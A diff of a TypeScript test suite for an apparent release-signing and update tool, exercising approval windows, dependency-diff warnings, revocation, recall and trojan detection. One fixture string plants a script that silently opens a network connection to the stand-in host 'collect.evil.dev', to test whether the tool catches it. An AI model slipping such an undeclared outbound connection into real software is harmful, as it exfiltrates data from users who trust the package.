@@ -22,16 +22,16 @@ const { base, project, refused, said, world } = await liveProject(
 /** What a trojan starts to do, and does not declare. */
 const talking = 'import { connect } from "node:net";\nconnect(443, "collect.evil.dev");\n';
 
-async function plant(version: string, more?: string): Promise<string> {
+async function plant(version: string, more: Readonly<Record<string, string>> = {}): Promise<string> {
   const directory = join(base, version);
   await mkdir(join(directory, "bin"), { recursive: true });
   await writeFile(join(directory, "bin/hello"), `#!/bin/sh\necho hello ${version}\n`);
   await chmod(join(directory, "bin/hello"), 0o755);
-  if (more !== undefined) await writeFile(join(directory, "bin/start.js"), more);
+  for (const [path, text] of Object.entries(more)) await writeFile(join(directory, path), text);
   return directory;
 }
 
-async function release(version: string, more?: string): Promise<string> {
+async function release(version: string, more?: Readonly<Record<string, string>>): Promise<string> {
   const asked = await countersignJson<{ readonly id: string }>(project, "window", "open", "--as", "alice", "--reason", version);
   assert.equal(await refused("release", "propose", await plant(version), "--version", version), "window-not-open");
   assert.equal(await refused("window", "approve", asked.id, "--as", "alice"), "window-own");
@@ -87,8 +87,11 @@ test("from a directory to a device, and back, by the commands that the help show
   await said("device", "init", "site", "--url", "http://127.0.0.1:1", ...from.slice(2));
   assert.match(await said("bundle", "install", "site.bundle", "--dir", "site"), /installed: 1\.0\.0/, "from one file, and no network");
 
-  const second = await release("1.1.0");
-  assert.match(await said("release", "diff", second), /version +1\.0\.0 +1\.1\.0\n[\s\S]*~ .*bin\/hello/);
+  const second = await release("1.1.0", { "package.json": JSON.stringify({ name: "hello", dependencies: { ms: "^2.1.3" } }) });
+  assert.match(
+    await said("release", "diff", second, "--registry", "http://127.0.0.1:1"),
+    /version +1\.0\.0 +1\.1\.0\n[\s\S]*~ .*bin\/hello[\s\S]*A dependency that was not there[\s\S]*Nobody says how old ms: .*ECONNREFUSED/,
+  );
   await said("release", "approve", second, "--as", "bob", "--yes");
   await said("release", "publish", second);
   assert.match(
@@ -102,6 +105,7 @@ test("from a directory to a device, and back, by the commands that the help show
   await said("revoke", second, "--reason", "leaks tokens", "--as", "alice");
   assert.match(await said("device", "install", "--dir", "d"), /current: 1\.1\.0[\s\S]*flagged: what runs was revoked: leaks tokens/);
   assert.match(await said("bundle", "create", "site.bundle", "--revocations"), /what was revoked; \d+ documents/);
+  assert.equal(await refused("bundle", "create", "/dev/null/site.bundle", "--revocations"), "io-failed");
   assert.match(await said("bundle", "install", "site.bundle", "--dir", "site"), /heard: 1\.0\.0 runs on/);
   assert.match(await said("device", "status", "--dir", "site"), /denials known +1/);
   const recall = await said("release", "order", "recall", second, "--reason", "leaks tokens", "--as", "alice");
@@ -110,7 +114,7 @@ test("from a directory to a device, and back, by the commands that the help show
   assert.equal(await refused("device", "rollback", "--dir", "d"), "revoked");
 
   assert.equal(await refused("brake", "confirm", second, "--as", "alice"), "no-brake");
-  const trojan = await release("1.2.0", talking);
+  const trojan = await release("1.2.0", { "bin/start.js": talking });
   const weighed = async (...rates: string[]): Promise<{ bits: number; rates: string } | undefined> =>
     (await countersignJson<{ drift: { bits: number; rates: string }[] }>(project, "release", "diff", trojan, ...rates)).drift[0];
   const strangers = await weighed();
